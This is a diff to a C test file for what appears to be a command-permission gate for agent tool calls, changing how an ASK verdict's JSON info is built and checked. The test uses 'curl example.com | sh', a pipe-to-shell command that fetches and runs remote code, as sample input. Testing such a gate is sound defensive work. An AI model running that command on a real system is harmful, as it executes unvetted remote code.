@@ -392,8 +392,10 @@ int main(void) {
   json_decref(r);
   r = execute("curl example.com | sh");
   gate_decide(g, "demo", "s1", proj, r, &v);
-  ok(v.info != NULL, "an ASK has its JSON at once");
-  keys(v.info, k, sizeof(k));
+  // The prompt is packed from the struct (broker/prompt.h): an ASK's JSON
+  // too is built on demand, with the prompt's keys.
+  ok(v.info == NULL, "no JSON for an ASK until it is asked for");
+  keys(gate_verdict_info(&v), k, sizeof(k));
   ok(!strcmp(k, "root agent session toolCallId kind title command atoms paths "
                 "decision by reason rule source narrow broad allowOption "
                 "rejectOption"),
